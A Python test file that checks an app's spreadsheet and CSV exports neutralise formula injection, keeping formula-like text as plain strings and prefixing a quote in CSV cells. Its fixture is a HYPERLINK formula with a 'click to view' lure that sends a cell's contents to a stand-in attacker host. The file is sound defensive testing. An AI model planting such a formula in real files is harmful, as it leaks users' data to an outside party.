"""Every download writes text as text: no cell a spreadsheet would run as a formula."""

import datetime as dt
import io
import zipfile
from decimal import Decimal

from openpyxl import load_workbook

from core.exports import csv_response, csv_text, xlsx_response

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'


def _sheet_xml(response) -> str:
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        return book.read("xl/worksheets/sheet1.xml").decode()


def test_a_text_that_looks_like_a_formula_is_written_as_an_inline_string():
    response = xlsx_response("t.xlsx", ["name", "amount"], [[FORMULA, Decimal("12.50")], ["+1+2", 3], ["#N/A", None]])
    assert "<f>" not in _sheet_xml(response)
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = list(sheet.iter_rows(min_row=2))
    assert [(c.value, c.data_type) for c in cells[0]] == [(FORMULA, "s"), (12.5, "n")]
    assert (cells[1][0].value, cells[1][0].data_type) == ("+1+2", "s")
    assert (cells[2][0].value, cells[2][0].data_type) == ("#N/A", "s")


def test_numbers_and_dates_stay_typed_in_a_workbook():
    response = xlsx_response("t.xlsx", ["day", "n"], [[dt.date(2027, 3, 1), 80000]])
    row = next(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2, values_only=True))
    assert row == (dt.datetime(2027, 3, 1), 80000)


def test_a_control_character_in_a_text_does_not_refuse_the_whole_workbook():
    response = xlsx_response("t.xlsx", ["name"], [["张\x07三"]])
    assert next(load_workbook(io.BytesIO(response.content)).active.iter_rows(min_row=2, values_only=True)) == ("张三",)


def test_a_csv_cell_starting_like_a_formula_gets_a_leading_quote():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_text(f"{start}1+1") == f"'{start}1+1"
    assert csv_text("张三") == "张三" and csv_text(-5) == -5
    body = csv_response("t.csv", ["name"], [[FORMULA]]).content.decode("utf-8-sig")
    assert body.splitlines()[1].startswith("\"'=HYPERLINK(")
